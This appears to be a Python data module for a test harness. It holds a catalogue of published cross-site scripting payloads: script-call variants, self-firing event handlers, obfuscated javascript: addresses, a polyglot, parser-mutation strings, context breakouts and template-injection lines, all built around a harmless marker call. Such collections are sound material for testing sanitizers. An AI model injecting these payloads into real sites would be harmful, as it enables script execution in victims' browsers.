"""The published forms of cross-site scripting, one a line. ``{}`` is where the call comes.

Collected from what researchers of browsers, filters and sanitizers have shown over the years; here
they are only the raw material of ``hostile.py``.
"""

from __future__ import annotations


def _lines(block: str) -> tuple[str, ...]:
    return tuple(block.strip("\n").split("\n"))


#: Ways to call ``hit``. None needs a quote, white space or an angle bracket. ``%d`` is the number.
CALLS = _lines(r"""
hit(%d)
hit`%d`
(0,hit)(%d)
[%d].map(hit)
window.hit(%d)
\u0068it(%d)
self[/hi/.source+/t/.source](%d)
Function(`hit(%d)`)()
eval(`hit(%d)`)
setTimeout(`hit(%d)`)
hit.call(null,%d)
top[`\x68it`](%d)
document.defaultView.hit(%d)
Reflect.apply(hit,0,[%d])
""")

#: Handlers of elements that say something by themselves; ``{}`` is where the handler comes.
SELF_STARTERS = tuple(
    (handler, markup)
    for handler, _, markup in (
        line.partition(" ")
        for line in _lines("""
onerror <img src=x {}>
onload <img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= {}>
onerror <img srcset=x {}>
onerror <image src=x {}>
onload <svg {}>
ontoggle <details open {}>x</details>
onerror <video><source src=x {}></video>
onerror <picture><source srcset=x><img {}></picture>
onerror <input type=image src=x {}>
onerror <svg><image href=x {} />
onbegin <svg><animate attributeName=x dur=1s {} />
onbegin <svg><set attributeName=x dur=1s {} />
onload <body {}>
onpageshow <body {}>
onload <iframe {}></iframe>
onerror <object data=x {}></object>
onerror <embed src=x {}>
onerror <script src=x {}></script>
onerror <link rel=stylesheet href=x {}>
onload <style {}></style>
onerror <video src=x {}></video>
onerror <audio src=x {}></audio>
onstart <marquee {}>x</marquee>
onfocus <input autofocus {}>
onfocus <textarea autofocus {}></textarea>
onfocus <select autofocus {}></select>
onfocus <xss tabindex=1 autofocus {}>x</xss>
onanimationstart <style>@keyframes k{}</style><b style=animation-name:k {}>x</b>
""")
    )
)

#: Elements that wait for a reader, and what readers do.
WAITING = _lines("""
<a href=# {}>x</a>
<div {}>x</div>
<xss {}>x</xss>
<math {}>x</math>
<form {}><button>x</button></form>
<p contenteditable {}>x</p>
<table background=x {}>
<dialog open {}>x</dialog>
<b popover {}>x</b>
<label {}>x</label>
<summary {}>x</summary>
""")
GESTURES = _lines("""
onclick
onmouseover
onpointerenter
onfocusin
onkeydown
oncopy
onpaste
ondrop
onwheel
onscroll
onsubmit
oninput
onauxclick
onselectstart
ontouchstart
onbeforetoggle
oncontextmenu
ontransitionend
""")

#: Elements that lead somewhere, and addresses that are scripts.
LEADING = _lines("""
<a href={}>x</a>
<svg><a href={}><text>x</text></a></svg>
<svg><a xlink:href={}><text>x</text></a></svg>
<iframe src={}></iframe>
<form action={}><button>x</button></form>
<form><button formaction={}>x</button></form>
<form><input type=submit formaction={}></form>
<map><area href={}></map>
""")
ADDRESSES = _lines("""
javascript:{}
JaVaScRiPt:{}
java&#9;script:{}
java&NewLine;script:{}
&#106;avascript:{}
&#x6A;&#x61;vascript&colon;{}
javascript&#58;{}
&#1;javascript:{}
javascript://%0a{}
javascript:void/**/{}
""")

#: Runs in most places of a page at once (Ahmed Elsobky, "Unleashing an Ultimate XSS Polyglot").
_POLYGLOT = (
    r"""jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk={} )//%0D%0A%0d%0a//"""
    r"""</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd={}//>\x3e"""
)

#: Scripts as they are.
SCRIPTS = (
    _POLYGLOT,
    "<script\n>{}</script\t>",
    *_lines(r"""
<script>{}</script>
<script x>{}</script x>
<script/x>{}</script>
<ScRiPt>{}//</sCrIpT>
<svg><script>{}</script></svg>
<script type=module>{}</script>
<script>/*<!--<script>*/{}//--></script></script>
<script src=data:,{}></script>
<svg><script href=data:,{} /></svg>
<<script>{}//<</script>
<iframe srcdoc='<script>parent.{}</script>'></iframe>
<math><mi><script>{}</script></mi></math>
</script><script>{}</script>
"""),
)

#: What filters have turned into markup, and what parsers have seen differently the second time.
#: ``{}`` is a whole element.
MUTANTS = _lines("""
<noscript><p title="</noscript>{}">
<svg></p><style><a id="</style>{}">
<math><mtext><table><mglyph><style><!--</style>{}
<form><math><mtext></form><form><mglyph><style></math>{}
<math><annotation-xml encoding="text/html">{}
<svg><foreignObject>{}
<svg><desc>{}
<svg><title>{}
<!-->{}-->
<!--->{}
<![CDATA[>{}]]>
<?php >{}?>
<a <a>{}
<img \"\"\">{}
<table><tr>{}
<select></select>{}
<noembed></noembed>{}
<template></template>{}
<listing></listing>{}
<frameset></frameset>{}
<ul><li><b><i>{}
<button><p><button>{}
<isindex>{}
<x:y>{}
{}<xmp>
{}<plaintext>
</bdi></p></article>{}
</p></section></main></body></html>{}
""")

#: Ways out of places other than the text of an element, each followed by an element.
ENDINGS = {
    "double-quoted": ('">', '" x>', "\">'>", '"/>'),
    "single-quoted": ("'>", "' x>", "'\">", "'/>"),
    "unquoted": (">", "x>", "x />"),
    "textarea": ("</textarea>", "</TextArea >", "</textarea\n>"),
    "title": ("</title>", "</TITLE/>"),
    "description": ('">', '"><!-- x -->'),
    "comment": ("-->", "--!>", "<!-- --><!---->"),
    "style": ("}</style>", "</STYLE\t>"),
    "data": ('"}</script>', "</script >", '"</ScRiPt/x>'),
    "script": ("</script>", '"</script>', "</SCRIPT x>"),
}

#: Ways to run where one is.
INSIDE = {
    "script": ('";{};"', '"-{}-"', '"+{}//', '",{},"', '";[{}]//'),
    "template": ("$\x7b{}\x7d", "`;{}//", "`-{}-`", "$\x7b[{}]\x7d"),
    "handler": ("');{}//", "'-{}-'", "&#39;);{}//", "&apos;-{}-&apos;"),
    "double-quoted": ('" onfocus="{}" autofocus x="', '" onmouseover={} x="', '"onclick="{}'),
    "single-quoted": ("' onfocus='{}' autofocus x='", "'onmouseover={} x='"),
    "unquoted": ("x onfocus={} autofocus", "x\tonmouseover={}"),
    "address": ADDRESSES,
}

#: For what else may read a text: template engines, Markdown, BBCode, mails. No page runs these.
ELSEWHERE = (
    "\u202e<script>{}\u202c",
    *_lines("""
{{constructor.constructor(`{}`)()}}
<%= {} %>
#{{}}
{% print {} %}
[x](javascript:{})
![x](x"onerror="{})
<javascript:{}>
[url=javascript:{}]x[/url]
https://x.example/"onmouseover={}//
https://x.example/'><svg/onload={}>
javascript:{}
data:text/html,<script>{}</script>
+ADw-script+AD4-{}
"""),
)

#: What stands around a string, as in a review.
SURROUNDINGS = ("", "", "理赔很慢。", "😀", "e\u0301", "\u200f", "a & b ", "&amp;", "\n", "￥100 ")
